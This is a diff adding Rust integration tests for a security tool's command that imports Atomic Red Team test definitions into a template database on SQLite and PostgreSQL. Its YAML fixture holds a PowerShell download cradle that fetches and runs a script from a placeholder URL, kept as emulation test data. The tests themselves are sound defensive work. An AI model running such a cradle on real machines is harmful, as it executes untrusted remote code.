@@ -201,3 +201,148 @@ fn import_attack_reports_progress_and_what_changed() {
     assert!(String::from_utf8_lossy(&output.stderr).contains("cannot read"));
     let _ = std::fs::remove_dir_all(&dir);
 }
+
+const ATOMIC: &str = r#"attack_technique: T1059.001
+display_name: 'Command and Scripting Interpreter: PowerShell'
+atomic_tests:
+- name: Download cradle
+  auto_generated_guid: f3132740-55bc-48c4-bcc0-758a459cd027
+  description: |
+    Downloads a script.
+  supported_platforms:
+  - windows
+  input_arguments:
+    url:
+      description: Where from
+      type: url
+      default: https://example.test/a.ps1
+  executor:
+    command: |
+      powershell.exe "IEX (New-Object Net.WebClient).DownloadString('#{url}')"
+    name: command_prompt
+- name: By hand
+  auto_generated_guid: 0b1e6b8c-2b9e-4d7a-9f55-6b7f0f3b2a11
+  description: Follow the steps
+  supported_platforms:
+  - linux
+  executor:
+    steps: |
+      1. ls
+    name: manual
+"#;
+
+fn import_atomics(
+    dir: &std::path::Path,
+    database_url: Option<&str>,
+    source: &std::path::Path,
+) -> (bool, String) {
+    let mut command = aegis(dir);
+    if let Some(url) = database_url {
+        command.env("DATABASE_URL", url);
+    }
+    let output = command.arg("import-atomics").arg(source).output().unwrap();
+    let text = format!(
+        "{}{}",
+        String::from_utf8_lossy(&output.stdout),
+        String::from_utf8_lossy(&output.stderr)
+    );
+    (output.status.success(), text)
+}
+
+/// The same import story on the embedded database and on PostgreSQL.
+fn atomics_import_story(database_url: Option<&str>) {
+    let dir = std::env::temp_dir().join(format!("aegis-cli-{}", uuid::Uuid::new_v4()));
+    let source = dir.join("atomic-red-team");
+    let atomic = source.join("atomics/T1059.001/T1059.001.yaml");
+    std::fs::create_dir_all(atomic.parent().unwrap()).unwrap();
+    std::fs::write(&atomic, ATOMIC).unwrap();
+    std::fs::create_dir_all(source.join("atomics/T1000")).unwrap();
+    std::fs::write(
+        source.join("atomics/T1000/T1000.yaml"),
+        "attack_technique: T1000\natomic_tests:\n- name: x\n  executor: [unclosed\n",
+    )
+    .unwrap();
+    std::fs::write(source.join("atomics/T1000/notes.md"), "not an atomic").unwrap();
+
+    let (ok, text) = import_atomics(&dir, database_url, &source);
+    assert!(ok, "{text}");
+    assert!(
+        text.contains("Templates: 2 added, 0 updated, 0 unchanged. Files: 2 read, 1 skipped."),
+        "{text}"
+    );
+    assert!(
+        text.contains("skipped atomics/T1000/T1000.yaml: line 4: "),
+        "the broken file is named with its line: {text}"
+    );
+    assert!(text.contains("not in the ATT&CK knowledge base"), "{text}");
+
+    // Again: nothing changes. Then upstream edits one command: one update.
+    let (ok, text) = import_atomics(&dir, database_url, &source);
+    assert!(ok);
+    assert!(
+        text.contains("Templates: 0 added, 0 updated, 2 unchanged."),
+        "{text}"
+    );
+    std::fs::write(&atomic, ATOMIC.replace("1. ls", "1. ls -la")).unwrap();
+    let (ok, text) = import_atomics(&dir, database_url, &source.join("atomics"));
+    assert!(ok);
+    assert!(
+        text.contains("Templates: 0 added, 1 updated, 1 unchanged."),
+        "{text}"
+    );
+
+    let (ok, text) = import_atomics(&dir, database_url, &dir.join("nowhere"));
+    assert!(!ok);
+    assert!(text.contains("cannot read"), "{text}");
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+#[test]
+fn import_atomics_on_sqlite() {
+    atomics_import_story(None);
+}
+
+#[test]
+fn import_atomics_on_postgres() {
+    let name = format!("aegis_cli_{}", uuid::Uuid::new_v4().simple());
+    let psql = |sql: &str| {
+        let status = Command::new("psql")
+            .args(["-h", "127.0.0.1", "-U", "postgres", "-qc", sql])
+            .status()
+            .expect("psql is needed for the PostgreSQL CLI test");
+        assert!(status.success(), "{sql}");
+    };
+    psql(&format!("CREATE DATABASE {name}"));
+    let result = std::panic::catch_unwind(|| {
+        atomics_import_story(Some(&format!("postgres://postgres@127.0.0.1:5432/{name}")))
+    });
+    psql(&format!("DROP DATABASE IF EXISTS {name} WITH (FORCE)"));
+    if let Err(panic) = result {
+        std::panic::resume_unwind(panic);
+    }
+}
+
+/// All of Atomic Red Team, when the shared data is present: every atomic becomes a template.
+#[test]
+fn import_atomics_the_real_catalog() {
+    let source =
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/atomic-red-team");
+    if !source.join("atomics").is_dir() {
+        eprintln!("skipping: {} is not present", source.display());
+        return;
+    }
+    let dir = std::env::temp_dir().join(format!("aegis-cli-{}", uuid::Uuid::new_v4()));
+    let (ok, text) = import_atomics(&dir, None, &source);
+    assert!(ok, "{text}");
+    assert!(
+        text.contains("Templates: 1819 added, 0 updated, 0 unchanged. Files: 341 read, 0 skipped."),
+        "{text}"
+    );
+    let (ok, text) = import_atomics(&dir, None, &source);
+    assert!(ok);
+    assert!(
+        text.contains("Templates: 0 added, 0 updated, 1819 unchanged."),
+        "{text}"
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
